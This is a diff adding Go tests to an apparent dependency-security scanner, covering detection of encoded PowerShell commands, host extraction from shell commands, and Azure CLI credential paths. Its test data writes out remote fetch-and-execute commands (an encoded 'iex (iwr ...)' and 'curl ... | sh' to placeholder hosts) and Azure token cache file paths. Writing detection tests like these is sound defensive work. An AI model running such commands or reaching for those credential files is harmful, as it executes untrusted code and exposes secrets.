@@ -1,8 +1,10 @@
 package rulekit
 
 import (
+	"encoding/base64"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
 	"github.com/depfence/depfence/internal/jsast"
 )
@@ -112,6 +114,52 @@ func TestExfilServiceByPath(t *testing.T) {
 	} {
 		if got := ExfilService(s); got != want {
 			t.Errorf("ExfilService(%q) = %q, want %q", s, got, want)
+		}
+	}
+}
+
+// encodePS is PowerShell's -EncodedCommand form of a script.
+func encodePS(script string) string {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(script)) {
+		b = append(b, byte(u), byte(u>>8))
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+// TestShellDangerEncodedPowerShell: an encoded script counts by what it
+// does once decoded; one that does not decode stays suspect.
+func TestShellDangerEncodedPowerShell(t *testing.T) {
+	for cmd, want := range map[string]bool{
+		"powershell.exe -NoProfile -EncodedCommand " + encodePS("iex (iwr https://x.invalid/p.ps1)"):                           true,
+		"powershell.exe -NoProfile -EncodedCommand " + encodePS("Add-Type -TypeDefinition $src; [Cred]::Read('dotenvx')"):      false,
+		"powershell.exe -NoProfile -EncodedCommand " + encodePS("Write-Output 1") + "; curl -fsSL https://x.invalid/i.sh | sh": true,
+		"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkACkA=====X":                       true,
+	} {
+		if got := ShellDanger(cmd) != ""; got != want {
+			t.Errorf("ShellDanger(%.80q) = %v, want %v", cmd, got, want)
+		}
+	}
+}
+
+// TestCommandHosts: hosts in URLs and bare host/path words, not paths.
+func TestCommandHosts(t *testing.T) {
+	got := commandHosts(`fix: [curl -sfS https://dotenvx.sh | sh] (.git/hooks/precommit) irm bun.sh/install.ps1 ~/.config/x /dev/null`)
+	if strings.Join(got, " ") != "dotenvx.sh bun.sh" {
+		t.Errorf("hosts %q", got)
+	}
+}
+
+// TestSensitivePathAzure: the Azure CLI's directory, not an escaped dot in
+// a regular expression's source (dev\.azure\.com).
+func TestSensitivePathAzure(t *testing.T) {
+	for s, want := range map[string]int{
+		`C:\Users\me\.azure\accessTokens.json`:  2,
+		"/home/me/.azure/msal_token_cache.json": 2,
+		`(dev\.azure\.com|visualstudio\.com)`:   0,
+	} {
+		if got, _ := SensitivePath(s); got != want {
+			t.Errorf("SensitivePath(%q) = %d, want %d", s, got, want)
 		}
 	}
 }
